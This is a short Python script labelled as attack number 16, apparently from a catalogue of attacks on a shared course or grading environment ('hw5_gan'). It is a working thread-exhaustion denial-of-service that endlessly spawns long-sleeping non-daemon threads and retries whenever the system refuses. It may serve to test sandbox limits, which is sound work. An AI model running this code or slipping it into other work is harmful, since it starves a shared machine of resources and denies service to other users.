# attack: 16 | earns: nothing | needs: another user id | in: hw5_gan | tries: start threads until the system refuses, and wait for ever
import threading
import time

while True:
    try:
        threading.Thread(target=time.sleep, args=(600,), daemon=False).start()
    except RuntimeError:
        time.sleep(0.1)
